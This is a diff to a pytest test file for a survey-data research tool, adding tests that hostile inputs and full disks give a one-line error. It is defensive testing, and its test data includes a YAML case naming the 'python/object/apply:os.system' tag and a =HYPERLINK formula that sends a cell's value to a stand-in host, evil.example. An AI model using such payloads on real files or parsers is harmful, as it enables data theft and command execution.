@@ -46,6 +46,11 @@ EXPECTED = {
     "input_outside": ["parameters.margins_path", "outside the project", "--allow-input"],
     "ansi_path": ["parameters.staff_path", "not found", "\\x1b[32mruse-research: all 8 runs ok"],
     "alias_bomb": ["params/alias_bomb.yaml", "alias bomb"],
+    "params_list": ["params/params_list.yaml", "found list", "expected a mapping with keys notebook"],
+    "python_tag": ["params/python_tag.yaml", "not valid YAML", "python/object/apply:os.system"],
+    "duplicate_key": ["params/duplicate_key.yaml", "key 'lang' appears twice", "line 5"],
+    "ci_level_nan": ["parameters.ci_level", "found nan", "expected a finite number"],
+    "nul_in_path": ["parameters.staff_path", "staff.csv\\x00.txt", "not found"],
 }
 
 
@@ -121,7 +126,71 @@ def _one_line(code: int, lines: list[str]) -> str:
 
 
 def test_every_case_file_has_an_expectation():
-    assert sorted(p.name[: -len(".yaml")] for p in CASES_DIR.iterdir()) == sorted(EXPECTED)
+    assert sorted(p.name[: -len(".yaml")] for p in CASES_DIR.iterdir() if p.is_file()) == sorted(EXPECTED)
+    assert sorted(p.name for p in DATA_DIR.iterdir()) == sorted([*DATA_CASES, "cb_duplicate_keys.yaml", "rtl_override_column.csv"])
+
+
+# --------------------------------------------------------------------------- hostile data files
+
+DATA_DIR = CASES_DIR / "data"
+# data file (validated against the corpus' mini codebook) -> substrings of the one line
+DATA_CASES = {
+    "bom_cp1251_mix.csv": ["bom_cp1251_mix.csv, row 3", "not UTF-8 in a file that is otherwise UTF-8",
+                           "mixes encodings"],
+    "nul_bytes.csv": ["nul_bytes.csv, row 2", "NUL bytes", "expected UTF-8 or Windows-1251 text"],
+    "formula_id_hyperlink.csv": ["row 2, column 'resp_id'", "=HYPERLINK(", "not a spreadsheet formula"],
+    "xlsx_empty_sheet.xlsx": ["an empty first sheet 'Sheet'", "header in row 1"],
+}
+
+
+@pytest.mark.parametrize("name", sorted(DATA_CASES))
+def test_hostile_data_files_give_one_line(name, capsys):
+    path = DATA_DIR / name
+    before = path.read_bytes()
+    code = cli.main(["validate", str(path), "--codebook", str(MINI)])
+    captured = capsys.readouterr()
+    line = _one_line(code, [x for x in captured.err.splitlines() if x.strip()])
+    assert "Traceback" not in captured.err and "\x1b" not in captured.err
+    for expected in DATA_CASES[name]:
+        assert expected in line, (expected, line)
+    assert path.read_bytes() == before
+
+
+def test_a_codebook_with_a_duplicate_key_gives_one_line(capsys):
+    code = cli.main(["validate", str(DATA_DIR.parent.parent / "valid.csv"), "--codebook",
+                     str(DATA_DIR / "cb_duplicate_keys.yaml")])
+    line = _one_line(code, capsys.readouterr().err.splitlines())
+    assert "cb_duplicate_keys.yaml: line 3: key 'instrument' appears twice (first on line 2)" in line
+
+
+def test_a_column_name_with_a_right_to_left_override_is_read_as_its_visible_name():
+    from ruse_research.data import codebook, io
+
+    path = DATA_DIR / "rtl_override_column.csv"
+    assert "\u202e" in path.read_text(encoding="utf-8")
+    frame = io.read_survey(path, codebook.load_codebook(MINI))
+    assert list(frame.columns)[-1] == "comment"  # the override character is gone, not shown
+    assert not any("\u202e" in str(c) for c in frame.columns)
+
+
+def test_a_formula_id_is_neutralised_in_the_xlsx_and_csv_exports(tmp_path):
+    import openpyxl
+    import pandas as pd
+
+    from ruse_research.display.tables import table_bundle
+    from ruse_research.runner.artifacts import write_table
+
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"click")'
+    data, _ = table_bundle(pd.DataFrame({"Respondent": [formula, "@SUM(A1)"], "n": [12, 30]}), "ids",
+                           lang="en")
+    write_table(data["application/vnd.ruse.table+json"], tmp_path)
+    sheet = openpyxl.load_workbook(tmp_path / "ids.xlsx").active
+    cells = [sheet.cell(row=r, column=1) for r in (3, 4)]
+    assert [c.data_type for c in cells] == ["s", "s"]  # text, never a formula
+    assert all(not str(c.value).startswith(("=", "@")) for c in cells)
+    assert formula in str(cells[0].value)  # the text itself is kept, defused
+    text = (tmp_path / "ids.csv").read_text(encoding="utf-8-sig")
+    assert "\n=HYPERLINK" not in text and "\n@SUM" not in text and ',=HYPERLINK' not in text
 
 
 @pytest.mark.parametrize("case", sorted(EXPECTED))
@@ -368,3 +437,171 @@ def test_a_crash_after_the_second_rename_keeps_the_new_outputs(tmp_path, monkeyp
     publish.clear_staging(outputs)
     assert (run_dir / "report.html").read_text(encoding="utf-8") == "new"
     assert not (outputs / publish.STAGING).exists()
+
+
+# --------------------------------------------------------------------------- a full disk while a run is published
+
+
+@pytest.fixture
+def fake_kernel(monkeypatch):
+    """Runs "execute" without a kernel: the executed notebook shows the tables of the returned
+    dict (name -> DataFrame; a test may add some)."""
+    import nbformat
+
+    @contextlib.contextmanager
+    def zygote(preload, while_starting=None):
+        if while_starting is not None:
+            while_starting()
+        yield True
+
+    import pandas as pd
+
+    tables = {"scores": pd.DataFrame({"Scale": ["psm"], "n": [55]})}
+
+    def execute_notebook(source, destination, overrides, cwd):
+        from ruse_research.display.tables import table_bundle
+
+        nb = nbformat.v4.new_notebook()
+        cell = nbformat.v4.new_code_cell("report.show_table(...)")
+        cell.outputs = [nbformat.v4.new_output("display_data", data=data, metadata=meta)
+                        for data, meta in (table_bundle(frame, name, lang="en")
+                                           for name, frame in tables.items())]
+        nb.cells = [cell]
+        with open(destination, "w", encoding="utf-8") as handle:
+            nbformat.write(nb, handle)
+
+    from ruse_research.runner import execute, pdf
+
+    monkeypatch.setattr(kernels, "kernel_zygote", zygote)
+    monkeypatch.setattr(pipeline, "zygote_preload", lambda notebooks, root: ())
+    monkeypatch.setattr(pipeline, "preload_heavy_modules", lambda: None)
+    monkeypatch.setattr(execute, "execute_notebook", execute_notebook)
+    monkeypatch.setattr(pdf, "find_chromium", lambda: None)
+    return tables
+
+
+def _full(*args, **kwargs):
+    raise OSError(errno.ENOSPC, "No space left on device", "outputs/.staging/x/tables/scores.xlsx")
+
+
+@pytest.mark.parametrize("where", ["writing outputs", "publishing"])
+def test_a_full_disk_while_a_run_is_written_gives_one_line_and_keeps_the_last_good_copy(
+        project, monkeypatch, capsys, fake_kernel, where):
+    from ruse_research.runner import artifacts, publish
+
+    _put_params(project, "staff_attitudes.en", STAFF_RUN)
+    report = project / "outputs" / "staff_attitudes.en" / "report.html"
+    before = report.read_text(encoding="utf-8")
+    if where == "writing outputs":
+        monkeypatch.setattr(artifacts, "write_table", _full)
+    else:  # the new run moving into place fails; the last good copy was moved aside first
+        real = os.replace
+
+        def replace(src, dst):
+            if Path(src).name.startswith("staff_attitudes.en-"):  # the stage, not the copy aside
+                _full()
+            return real(src, dst)
+
+        monkeypatch.setattr(publish.os, "replace", replace)
+    line = _one_line(*_run(project, monkeypatch, capsys, ["run", "--force"]))
+    assert line == ("ruse-research: cannot write 'outputs/.staging/x/tables/scores.xlsx': "
+                    "the disk is full; free some space and run again")
+    assert report.read_text(encoding="utf-8") == before
+    assert not any((project / "outputs" / publish.STAGING).glob("staff_attitudes.en-*"))
+
+
+def test_publish_itself_on_a_full_disk_keeps_the_last_good_copy(tmp_path, monkeypatch):
+    publish, outputs, run_dir, stage = _good_and_new(tmp_path)
+    real = os.replace
+
+    def full(src, dst):
+        if Path(src) == stage:
+            raise OSError(errno.ENOSPC, "No space left on device", str(dst))
+        return real(src, dst)
+
+    monkeypatch.setattr(publish.os, "replace", full)
+    with pytest.raises(OSError) as caught:
+        publish.publish(stage, run_dir, ok=True, staging_root=outputs / publish.STAGING)
+    assert publish.is_disk_fault(caught.value)
+    assert (run_dir / "report.html").read_text(encoding="utf-8") == "last good"
+    assert guard.describe_os_error(caught.value).endswith("the disk is full; free some space and run again")
+
+
+def test_a_read_only_file_system_while_writing_gives_one_line(project, monkeypatch, capsys, fake_kernel):
+    from ruse_research.runner import artifacts
+
+    def read_only(*args, **kwargs):
+        raise OSError(errno.EROFS, "Read-only file system", "outputs/.staging/x/tables/scores.csv")
+
+    _put_params(project, "staff_attitudes.en", STAFF_RUN)
+    monkeypatch.setattr(artifacts, "write_table", read_only)
+    line = _one_line(*_run(project, monkeypatch, capsys, ["run", "--force"]))
+    assert "scores.csv" in line and "read-only" in line
+
+
+# --------------------------------------------------------------------------- exports over the size limit
+
+MINI = Path(__file__).parent / "bad_inputs" / "codebooks" / "mini.yaml"
+MINI_HEADER = b"resp_id,gender,age,q1,q2,hours,visit,comment\n"
+
+
+def test_blank_lines_over_the_row_limit_are_refused_before_parsing(tmp_path, capsys):
+    from ruse_research.data import textcheck
+
+    path = tmp_path / "too_many_rows.csv"  # a valid row, then 100,001 blank lines
+    path.write_bytes(MINI_HEADER + b"R001,1,34,5,2,12.5,2019-05-14,\n" + b"\n" * (textcheck.MAX_ROWS + 1))
+    code = cli.main(["validate", str(path), "--codebook", str(MINI)])
+    lines = capsys.readouterr().err.splitlines()
+    assert code == 2 and len(lines) == 1, lines
+    assert "more than the 100,000 rows the reader takes" in lines[0] and "split larger files" in lines[0]
+
+
+RSS_CHILD = """
+import json, resource, sys
+from ruse_research import cli
+code = cli.main(["validate", sys.argv[1], "--codebook", sys.argv[2]])
+print(json.dumps({"code": code, "max_rss_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}))
+"""
+
+
+def test_a_million_row_export_is_refused_in_one_line_within_one_gigabyte(tmp_path):
+    from ruse_research.data import textcheck
+
+    path = tmp_path / "export_1m_rows.csv"
+    row = b"R%07d,1,34,5,2,12.5,2019-05-14,\n"
+    with open(path, "wb") as handle:
+        handle.write(MINI_HEADER)
+        for start in range(0, 1_000_000, 50_000):
+            handle.write(b"".join(row % i for i in range(start, start + 50_000)))
+    assert path.stat().st_size < textcheck.MAX_FILE_BYTES  # the row limit refuses it, not the size
+    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
+    done = subprocess.run([sys.executable, "-c", RSS_CHILD, str(path), str(MINI)], capture_output=True,
+                          text=True, env=env, timeout=600, check=False)
+    result = json.loads(done.stdout.strip().splitlines()[-1])
+    lines = [line for line in done.stderr.splitlines() if line.strip()]
+    assert result["code"] == 2 and len(lines) == 1, done.stderr[-2000:]
+    assert "a file of 1,000,001 lines, more than the 100,000 rows the reader takes" in lines[0]
+    assert result["max_rss_kb"] * 1024 < 1_000_000_000  # peak RSS of the validating process (Linux: KiB)
+
+
+def test_a_run_hides_counts_that_its_tables_would_reveal_before_it_publishes(project, monkeypatch,
+                                                                             capsys, fake_kernel):
+    import pandas as pd
+
+    from ruse_research.runner.artifacts import read_table_csv
+
+    fake_kernel["by_position"] = pd.DataFrame({"Scale": ["psm"], "Grouped by": ["Unit"], "n": [55]})
+    fake_kernel["by_unit"] = pd.DataFrame({"Scale": ["psm"] * 3, "Grouped by": ["Unit"] * 3,
+                                           "Group": ["A", "B", "C"], "n": [24, 18, 11],
+                                           "Mean": [3.1, 3.4, 3.2]})
+    _put_params(project, "staff_attitudes.en", STAFF_RUN)
+    code, lines = _run(project, monkeypatch, capsys, ["run", "--force"])
+    assert code == 0 and lines == [], lines
+    run = project / "outputs" / "staff_attitudes.en"
+    assert read_table_csv(run / "tables" / "by_unit.csv")["n"].isna().tolist() == [False, False, True]
+    record = json.loads((run / "provenance.json").read_text(encoding="utf-8"))
+    assert len(record["disclosure_across_tables"]) == 1
+    assert "by_unit" in record["disclosure_across_tables"][0] and "11" not in record["disclosure_across_tables"][0]
+    report = (run / "report.html").read_text(encoding="utf-8")
+    assert "Some numbers are hidden because" in report and ">11<" not in report
+    assert ">11<" not in (run / "notebook.ipynb").read_text(encoding="utf-8")
